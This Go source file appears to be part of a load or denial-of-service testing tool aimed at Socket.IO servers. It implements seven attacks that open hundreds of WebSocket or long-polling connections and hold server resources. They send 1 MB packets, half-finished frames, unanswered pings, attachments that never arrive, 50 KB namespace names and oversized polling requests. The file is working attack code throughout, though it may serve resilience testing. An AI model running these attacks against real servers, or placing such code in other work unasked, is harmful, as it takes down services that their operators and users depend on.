package main

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"strings"
	"sync/atomic"
	"time"
)

// Sockets that make the server keep something for them.
var socketAttacks = []attack{
	{name: "packets", about: "200 sockets that send packets of 1 MB", run: largePackets},
	{
		name:  "half-packets",
		about: "500 sockets that send 60 KB of a packet and no more",
		run:   halfPackets,
	},
	{
		name:  "pings",
		about: "200 sockets that send pings and never read the answers",
		run:   unreadPings,
	},
	{
		name:  "attachments",
		about: "200 sockets that announce binary attachments and never send them",
		run:   missingAttachments,
	},
	{
		name:  "namespaces",
		about: "200 sockets that ask for namespaces with names of 50 KB",
		run:   longNamespaces,
	},
	{
		name:  "polls",
		about: "500 clients of long-polling that send 900 KB and never poll",
		run:   unreadPolls,
	},
	{
		name:  "waiting-polls",
		about: "900 clients of long-polling that wait, each with a request of 14 KB",
		run:   waitingPolls,
	},
}

// onSockets connects n sockets and lets each do something until it is refused or the attack's time is over.
func (t *target) onSockets(n int, do func(*websocket) error) error {
	until := time.Now().Add(held)
	return parallel(n, n, func(int) error {
		conn, err := t.dial()
		if err != nil {
			return err
		}
		w, err := newWebSocket(conn, t.host, nil, dialTimeout)
		if err != nil {
			return refusedIsFine(err)
		}
		if err := handshake(w); err != nil {
			return err
		}
		for time.Now().Before(until) {
			conn.SetDeadline(until)
			if err := do(w); err != nil {
				time.Sleep(time.Until(until))
			}
		}
		return nil
	})
}

func largePackets(t *target) error {
	packet := append([]byte("42[\"send_message\",\""), bytes.Repeat([]byte("x"), 1_000_000-30)...)
	packet = append(packet, '"', ']')
	return t.onSockets(200, func(w *websocket) error { return w.send(packet) })
}

var errDone = errors.New("done")

func halfPackets(t *target) error {
	frame := appendFrame(nil, opText, bytes.Repeat([]byte("x"), 64<<10))
	return t.onSockets(500, func(w *websocket) error {
		w.Write(frame[:60<<10])
		return errDone
	})
}

func unreadPings(t *target) error {
	payload := bytes.Repeat([]byte("x"), 125)
	var pings []byte
	for range 500 {
		pings = appendFrame(pings, opPing, payload)
	}
	return t.onSockets(200, func(w *websocket) error {
		_, err := w.Write(pings)
		return err
	})
}

func missingAttachments(t *target) error {
	packet := fmt.Appendf(nil, `59-["send_message",%q,{"_placeholder":true,"num":0}]`, bytes.Repeat([]byte("x"), 60_000))
	return t.onSockets(200, func(w *websocket) error {
		w.send(packet)
		return errDone
	})
}

func longNamespaces(t *target) error {
	name := bytes.Repeat([]byte("x"), 50_000)
	var number atomic.Int64
	return t.onSockets(200, func(w *websocket) error {
		return w.send(fmt.Appendf(nil, "40/%d%s,", number.Add(1), name))
	})
}

func unreadPolls(t *target) error {
	body := bytes.Repeat([]byte("x"), 900_000)
	return parallel(500, 50, func(int) error {
		return t.post("/socket.io/?EIO=4&transport=polling&sid=unknown", "text/plain", body, nil)
	})
}

func waitingPolls(t *target) error {
	parameters := strings.Repeat("&k="+strings.Repeat("v", 70), 190)
	err := parallel(900, 50, func(int) error {
		poll, err := dialPolling(t.base, nil)
		if err != nil {
			return err
		}
		defer poll.cut()
		if err := handshake(poll); err != nil {
			return err
		}
		conn, err := t.dial()
		if err == nil {
			_, err = io.WriteString(conn, getRequest(strings.TrimPrefix(poll.url, t.base)+parameters, ""))
		}
		return refusedIsFine(err)
	})
	time.Sleep(held)
	return err
}
